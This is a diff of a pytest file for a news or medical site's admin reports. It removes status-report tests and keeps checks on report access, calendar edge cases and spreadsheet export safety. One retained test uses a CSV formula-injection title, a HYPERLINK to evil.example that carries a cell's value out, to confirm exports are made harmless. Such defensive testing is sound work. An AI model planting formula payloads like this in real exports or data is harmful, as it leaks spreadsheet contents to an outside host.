@@ -1,6 +1,5 @@
 """The reports: who may see them, what they tell, how they filter, and what a spreadsheet makes of them."""
 
-import csv
 import io
 from datetime import timedelta
 
@@ -11,22 +10,14 @@ from openpyxl import load_workbook
 from wagtail.users.models import UserProfile
 
 from articles.admin.reports.base import harmless
-from articles.authoring.models import ArticlePage
-from articles.publishing.withdraw import withdraw
 from articles.record import events
-from articles.record.models import Edition, Event, Publication, SignOff
+from articles.record.models import Edition, Event, SignOff
 from articles.record.vocabulary import EventKind, Role, SubjectKind
 from articles.review.submit import submit
+from tests.admin.conftest import rows
 from tests.factories import make_article, make_topic, make_user, sign_as
 
-REPORTS = ("articles_report_status", "articles_report_signoffs", "articles_report_ledger")
-
-
-def rows(client, report: str, /, **asked) -> list[dict[str, str]]:
-    """The report as CSV, which has what the page shows."""
-    answer = client.get(reverse(report), asked | {"export": "csv"})
-    assert answer.status_code == 200
-    return list(csv.DictReader(io.StringIO(b"".join(answer.streaming_content).decode())))
+REPORTS = ("articles_report_signoffs", "articles_report_ledger")
 
 
 @pytest.fixture
@@ -65,98 +56,12 @@ def test_a_report_of_many_articles_takes_as_many_queries_as_of_few(
     editor.get(reverse(name))  # what is looked up once for a session
 
     with django_assert_max_num_queries(32):
-        html = editor.get(reverse(name)).content.decode()
-
-    assert published.title in html
-
-
-def test_the_status_report_tells_what_readers_get_and_when_whose_review_ends(editor, published):
-    row = next(row for row in rows(editor, "articles_report_status") if row["Title"] == published.title)
-
-    today = timezone.now().date()
-    assert row["Published version"].startswith("Edition 1")
-    assert (row["Type"], row["Language"], row["Review"]) == ("Condition", "en", "Current")
-    assert row["Last review"] == f"{today:%-d %B %Y}"
-    assert row["Next review"].endswith(str(today.year + 3))
-    assert row["Reviewed by"] == "Dr Ada Reviewer, MD"
-    assert row["Policies"] == "Medical part: an editor and a clinician"
-    assert row["Owner"] == "author"
-
-
-@pytest.mark.parametrize(
-    ("days", "status"), [(31, "Current"), (30, "Current"), (29, "Due"), (0, "Due"), (-1, "Overdue")]
-)
-def test_the_status_is_that_of_today_and_not_of_when_it_was_composed(editor, published, days, status):
-    Publication.objects.update(next_review_on=timezone.now().date() + timedelta(days=days))
-
-    found = {value: rows(editor, "articles_report_status", status=value) for value in ("current", "due", "overdue")}
-
-    assert {value: [row["Review"] for row in told] for value, told in found.items() if told} == {
-        status.lower(): [status]
-    }
-
-
-def test_a_publication_from_before_the_columns_tells_the_same(editor, published):
-    Publication.objects.update(next_review_on=None, grace_ends_at=None, after_grace="")
-
-    row = next(row for row in rows(editor, "articles_report_status") if row["Title"] == published.title)
-
-    assert row["Review"] == "Current"
-    assert row["Next review"] != ""
-
-
-def test_what_the_clock_withholds_is_told_before_anything_was_recomposed(editor, published):
-    Publication.objects.update(grace_ends_at=timezone.now() - timedelta(hours=1), after_grace="withhold")
-
-    assert [row["Review"] for row in rows(editor, "articles_report_status", status="withheld")] == ["Withheld"]
-
-
-def test_withdrawn_and_never_published_articles_are_found_as_such(editor, people, published):
-    draft = make_article(by=people.author)
-    withdraw(page=ArticlePage.objects.get(pk=published.pk), reason="safety", by=people.editor)
-
-    found = {
-        status: [row["Title"] for row in rows(editor, "articles_report_status", status=status)]
-        for status in ("withdrawn", "never-published", "current")
-    }
-
-    assert found == {"withdrawn": [published.title], "never-published": [draft.title], "current": []}
-
-
-def test_the_status_report_filters_by_type_topic_and_days(editor, people, publish):
-    topic = make_topic()
-    here = publish(make_article(by=people.author, topics=[topic], article_type="treatment"))
-    publish(make_article(by=people.author))
-
-    for asked in ({"article_type": "treatment"}, {"topic": topic.pk}, {"due_within": 13 * 31}):
-        assert [row["Title"] for row in rows(editor, "articles_report_status", **asked)] == [here.title], asked
-    assert rows(editor, "articles_report_status", due_within=5) == []
-
-
-@pytest.mark.parametrize("asked", [{"status": "king"}, {"due_within": "1e30"}, {"due_within": "-4"}, {"topic": "x"}])
-def test_a_filter_that_nobody_offers_is_no_failure(editor, published, asked):
-    assert editor.get(reverse("articles_report_status"), asked).status_code == 200
+        assert editor.get(reverse(name)).status_code == 200
 
 
 @pytest.mark.parametrize("day", ["9999-12-31", "0001-01-01"])
 def test_the_ends_of_the_calendar_are_no_failure(editor, published, day):
     assert editor.get(reverse("articles_report_ledger"), {"at_from": day, "at_to": day}).status_code == 200
-
-
-def test_drafts_that_were_never_submitted_are_known_to_those_alone_who_may_edit_them(login, people, published):
-    draft = make_article(by=people.author, title="Zwirbelmark in secret")
-
-    told = {
-        user: [row["Title"] for row in rows(login(user), "articles_report_status")]
-        for user in (people.editor, people.reviewer)
-    }
-
-    assert draft.title in told[people.editor]
-    assert told[people.reviewer] == [published.title]
-
-
-def test_a_draft_that_was_submitted_may_be_known_to_those_who_review(login, people, submitted):
-    assert submitted.title in [row["Title"] for row in rows(login(people.reviewer), "articles_report_status")]
 
 
 def test_no_report_tells_a_reviewer_the_title_of_a_draft_by_showing_or_by_finding_it(login, people):
@@ -263,7 +168,7 @@ def test_other_cells_stay_as_they_are(cell):
     assert harmless(cell) == cell
 
 
-@pytest.mark.parametrize("name", ["articles_report_status", "articles_report_ledger"])
+@pytest.mark.parametrize("name", ["articles_list", "articles_report_ledger"])
 def test_a_title_that_is_a_formula_is_harmless_in_both_kinds_of_file(editor, people, name):
     page = make_article(by=people.author, title='=HYPERLINK("https://evil.example/"&A1)')
     submit(page=page, by=people.author)
